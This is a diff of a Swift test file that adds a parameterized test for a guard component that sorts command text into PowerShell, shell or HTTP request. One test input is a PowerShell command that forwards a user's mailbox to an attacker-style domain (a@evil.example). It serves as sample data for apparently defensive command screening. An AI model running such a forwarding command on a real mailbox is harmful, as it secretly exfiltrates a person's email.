@@ -43,4 +43,14 @@ struct GuardCheckTests {
         let verdict = try await check(arguments).get()
         #expect(verdict["verdict"] == "ask" && verdict["class"] == "privilege", "\(verdict)")
     }
+    @Test(
+        "knows PowerShell by its cmdlets, in any case, and shells by their programs",
+        arguments: [
+            ("set-mailbox ann -forwardingsmtpaddress a@evil.example", .powershell), ("get-mguser -all", .powershell),
+            ("GET-MAILBOX", .powershell), ("  write-host hi", .powershell), ("Get-Mailbox | Export-Csv x", .powershell),
+            ("apt-get install jq", .shell), ("ssh-keygen -t ed25519", .shell), ("docker-compose down", .shell),
+            ("git checkout get-mailbox", .shell), ("pwsh -c 'Get-Mailbox'", .shell), ("ls -la", .shell),
+            ("GET /users", .request),
+        ] as [(String, CheckedKind)])
+    func kinds(text: String, kind: CheckedKind) { #expect(CheckedKind(of: text) == kind) }
 }
